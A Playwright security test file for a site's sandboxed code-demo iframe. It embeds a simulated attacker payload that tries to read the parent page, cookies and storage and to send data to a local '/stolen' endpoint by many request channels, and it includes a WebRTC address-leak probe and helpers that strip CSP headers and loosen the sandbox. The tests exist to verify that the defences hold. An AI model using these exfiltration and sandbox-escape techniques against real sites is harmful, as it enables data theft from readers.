import dgram from 'node:dgram';
import fs from 'node:fs';
import path from 'node:path';
import type {Page} from '@playwright/test';
import {demoOn, running} from '../demos/open-demo';
import {sites} from '../support/sites';
import {expect, settled, test} from '../support/test';

/** The file that frames of demos show. */
const frameFiles = '**/assets/demos/frame.*';

/**
 * Code as an attacker would have a reader paste it: tries everything, and writes
 * what it reached into the console.
 */
const attack = `
const reached: string[] = [];
const attempt = (name: string, action: () => unknown) => {
  try {
    if (action()) reached.push(name);
  } catch {}
};
const outside = 'http://localhost:${sites.variant.port}/sub/path/stolen';
attempt('parent document', () => parent.document.title);
attempt('top document', () => top?.document.title);
attempt('parent location', () => parent.location.href);
attempt('frame element', () => frameElement);
attempt('cookies', () => { document.cookie = 'a=1'; return document.cookie; });
attempt('local storage', () => localStorage);
attempt('session storage', () => sessionStorage);
attempt('databases', () => indexedDB.open('x') && false);
attempt('navigation of the page', () => { top!.location.href = outside + '/top'; });
attempt('popup', () => window.open(outside + '/popup'));
attempt('dialog', () => prompt('?'));
attempt('image', () => { new Image().src = outside + '/image'; });
attempt('script', () => { const s = document.createElement('script'); s.src = outside + '/script.js'; document.head.append(s); });
attempt('style', () => { const s = document.createElement('link'); s.rel = 'stylesheet'; s.href = outside + '/style.css'; document.head.append(s); });
attempt('frame', () => { const f = document.createElement('iframe'); f.src = outside + '/frame'; document.body.append(f); });
attempt('form', () => { const f = document.createElement('form'); f.action = outside + '/form'; document.body.append(f); f.submit(); });
attempt('beacon', () => navigator.sendBeacon(outside + '/beacon') && false);
attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', outside + '/xhr', false); x.send(); return x.responseText; });
attempt('web socket', () => { new WebSocket(outside.replace('http', 'ws') + '/socket'); });
attempt('worker', () => { new Worker(outside + '/worker.js'); });
attempt('event source', () => { new EventSource(outside + '/events'); });
const later = [
  fetch(outside + '/fetch').then(() => reached.push('fetch')),
  fetch('${`http://localhost:${sites.main.port}`}/').then(() => reached.push('own site')),
  import(/* @vite-ignore */ outside + '/module.js').then(() => reached.push('module')),
];
void Promise.allSettled(later).then(() => {
  console.log('reached: ' + reached.join(', '));
  setTimeout(() => { location.href = outside + '/self'; }, 300);
});
`;

/** Opens the demo of a page in its editor and goes to the end of the program. */
async function edit(page: Page): Promise<void> {
  await running(page);
  await demoOn(page).getByRole('button', {name: 'Edit code'}).click();
  await demoOn(page).locator('.cm-content').click();
  await page.keyboard.press('ControlOrMeta+End');
}

/** Runs the attack in the demo of a page; returns what it says it reached. */
async function attackFrom(page: Page): Promise<string> {
  await edit(page);
  const report = page.waitForEvent('console', (message) => message.text().startsWith('reached: '));
  // The last attempt comes after the report: the frame leaves its document, for an error page if that is refused.
  const last = page.waitForEvent(
    'framenavigated',
    (frame) => frame.parentFrame() === page.mainFrame() && !/^about:blank$|\/assets\/demos\/frame\./.test(frame.url()),
  );
  await page.keyboard.insertText(`\n${attack}`);
  const reached = (await report).text();
  await last;
  return reached;
}

/** Records what arrives at the place where the attack wants to bring its loot. */
async function listen(page: Page): Promise<string[]> {
  const requests: string[] = [];
  await page.context().route(/\/stolen/, (route) => {
    requests.push(route.request().url());
    return route.fulfill({
      status: 200,
      contentType: 'text/javascript',
      headers: {'access-control-allow-origin': '*'},
      body: '',
    });
  });
  return requests;
}

/** Serves the file of the frame with its runtime changed, so that it leaves WebRTC to the program. */
async function withPeers(page: Page): Promise<void> {
  await page.route(frameFiles, async (route) => {
    const response = await route.fetch();
    await route.fulfill({response, body: leavePeers(await response.text())});
  });
}

function leavePeers(html: string): string {
  const changed = html.replace('/^(?:moz|webkit)?RTC/', '/^$/');
  expect(changed).not.toBe(html);
  return changed;
}

/** Serves the page and the file of its frame without the headers of their host. */
async function withoutPolicyHeader(page: Page, change: (html: string) => string = (html) => html): Promise<void> {
  for (const file of ['/learn/quickstart/', frameFiles]) {
    await page.route(file, async (route) => {
      const response = await route.fetch();
      const headers = {...response.headers()};
      delete headers['content-security-policy'];
      delete headers['connection-allowlist'];
      await route.fulfill({response, headers, body: change(await response.text())});
    });
  }
}

/** Shows the file of a frame in the page, has it run a program, and returns the types of its messages until then. */
async function messagesOf(page: Page, sandbox: string | null): Promise<string[]> {
  const files = fs.readdirSync(path.join(sites.main.buildDir, 'assets/demos'));
  const file = files.find((name) => /^frame\..*\.html$/.test(name));
  return page.evaluate(
    async ([src, allowed, content]) => {
      const frame = document.createElement('iframe');
      if (allowed !== null) {
        frame.setAttribute('sandbox', allowed);
      }
      frame.src = src;
      const types: string[] = [];
      await new Promise<void>((resolve) => {
        window.addEventListener('message', ({data, source}: MessageEvent<{type: string}>) => {
          if (source !== frame.contentWindow) {
            return;
          }
          types.push(data.type);
          const answers = data.type === 'ready' ? [{type: 'run', content}, {type: 'ping'}] : [];
          answers.forEach((answer) => frame.contentWindow?.postMessage(answer, '*'));
          if (data.type === 'pong') {
            resolve();
          }
        });
        document.body.append(frame);
      });
      return types;
    },
    [
      `/assets/demos/${file}`,
      sandbox,
      {
        ...{fonts: [], libraries: [], colorMode: 'light'},
        program: {title: '', html: '<script>console.log("runs")</script>', css: '', scripts: []},
      },
    ] as const,
  );
}

/** Code that has a server asked for the reader's address by WebRTC, and says what came of it. */
const askPeer = (port: number): string => `
try {
  const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:${port}'}]});
  peer.onicegatheringstatechange = () => console.log('peer: ' + peer.iceGatheringState);
  peer.createDataChannel('x');
  void peer.createOffer().then((offer) => peer.setLocalDescription(offer));
} catch (error) {
  console.log('peer: ' + error);
}
`;

/** The same in frames within the frame of the demo, which have a constructor of their own. */
const askPeerInFrames = (port: number): string => `
const inner = "new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:${port}'}]})";
const use = inner + ".createDataChannel('x'); console.log('peer: made')";
const frame = (name: string, value: string) => {
  const made = document.createElement('iframe');
  made.setAttribute(name, value);
  return made;
};
const inHtml = '<script>' + use + '</' + 'script>';
document.body.append(frame('srcdoc', inHtml), frame('src', 'javascript:' + use));
const host = document.createElement('div');
host.attachShadow({mode: 'closed'}).append(frame('srcdoc', inHtml));
document.body.append(host);
`;

/** A STUN server that counts what arrives. */
async function peerServer(): Promise<{port: number; packets: () => number; close: () => void}> {
  const socket = dgram.createSocket('udp4');
  let packets = 0;
  socket.on('message', () => (packets += 1));
  await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve));
  return {port: socket.address().port, packets: () => packets, close: () => socket.close()};
}

test.use({expectedConsole: /./});

for (const host of ['of the preview server', 'that sends no headers'] as const) {
  test(`on a host ${host}, edited code reaches neither the page, nor storage, nor a server`, async ({
    page,
    open,
    context,
  }) => {
    const requests = await listen(page);
    if (host === 'that sends no headers') {
      await withoutPolicyHeader(page);
    }
    await open('/learn/quickstart/');
    const reached = await attackFrom(page);
    expect(reached).toBe('reached: ');
    expect(requests).toEqual([]);
    expect(context.pages()).toHaveLength(1);
    await expect(page).toHaveURL('/learn/quickstart/');
  });
}

test.describe('WebRTC, which the policy does not cover', () => {
  /** What an edited demo says about its peer first, and later if it goes on. */
  const saysOf = async (page: Page, program: string, end: RegExp): Promise<string> => {
    await edit(page);
    const said = page.waitForEvent('console', (message) => end.test(message.text()));
    await page.keyboard.insertText(`\n${program}`);
    return (await said).text();
  };

  for (const host of ['of the preview server', 'that sends no headers'] as const) {
    test(`has no constructor on a host ${host}, nor in frames within`, async ({page, open}) => {
      const server = await peerServer();
      if (host === 'that sends no headers') {
        await withoutPolicyHeader(page);
      }
      await open('/learn/quickstart/');
      expect(await saysOf(page, askPeer(server.port), /^peer: /)).toBe(
        'peer: ReferenceError: RTCPeerConnection is not defined',
      );
      const made: string[] = [];
      page.on('console', (message) => message.text() === 'peer: made' && made.push(message.text()));
      const removed = [1, 2, 3].map((nth) => {
        let seen = 0;
        return page.waitForEvent('console', (message) => message.text().includes('was removed') && ++seen === nth);
      });
      await page.keyboard.insertText(`\n${askPeerInFrames(server.port)}`);
      await Promise.all(removed);
      await settled(page);
      expect(made).toEqual([]);
      expect(server.packets()).toBe(0);
      server.close();
    });
  }

  test('reaches nobody where the host sends the header, even with a constructor', async ({page, open}) => {
    const server = await peerServer();
    await withPeers(page);
    await open('/learn/quickstart/');
    expect(await saysOf(page, askPeer(server.port), /^peer: (?!gathering)/)).toBe('peer: complete');
    expect(server.packets()).toBe(0);
    server.close();
  });

  test('would be found to reach a server without both', async ({page, open}) => {
    const server = await peerServer();
    await withoutPolicyHeader(page, (html) => (html.includes('RTC/') ? leavePeers(html) : html));
    await open('/learn/quickstart/');
    await saysOf(page, askPeer(server.port), /^peer: gathering/);
    await expect.poll(server.packets).toBeGreaterThan(0);
    server.close();
  });
});

test('the file of the frame runs nothing where it is shown without its sandbox', async ({page, open}) => {
  await withoutPolicyHeader(page);
  await open('/learn/quickstart/');
  expect(await messagesOf(page, 'allow-scripts')).toEqual(['ready', 'console', 'pong']);
  expect(await messagesOf(page, null)).toEqual(['ready', 'pong']);
});

test('the headers of the host put the file of the frame into its sandbox', async ({page, open}) => {
  await open('/learn/quickstart/');
  expect(await messagesOf(page, null)).toEqual(['ready', 'console', 'pong']);
});

test('a hole in the sandbox would be found', async ({page, open}) => {
  const requests = await listen(page);
  // The same frame with its origin left to it, which it does not notice, and without its policy.
  await page.addInitScript(() => {
    if (window !== window.top) {
      Object.assign(window, {origin: 'null'});
    }
    // eslint-disable-next-line @typescript-eslint/unbound-method -- called with its element below
    const {setAttribute} = Element.prototype;
    Element.prototype.setAttribute = function (name: string, value: string) {
      const isHole = this instanceof HTMLIFrameElement;
      if (isHole && name === 'sandbox') {
        setAttribute.call(this, name, `${value} allow-same-origin`);
      } else {
        setAttribute.call(this, name, value);
      }
    };
  });
  await withoutPolicyHeader(page, (html) => {
    const bare = html.replaceAll(/<meta[^>]*Content-Security-Policy[^>]*>/g, '');
    expect(bare).not.toBe(html);
    return bare;
  });
  await open('/learn/quickstart/');
  const reached = await attackFrom(page);
  for (const name of ['parent document', 'local storage', 'fetch', 'own site', 'module']) {
    expect(reached).toContain(name);
  }
  expect(requests.map((url) => url.split('/').pop())).toEqual(
    expect.arrayContaining(['image', 'script.js', 'fetch', 'self']),
  );
});
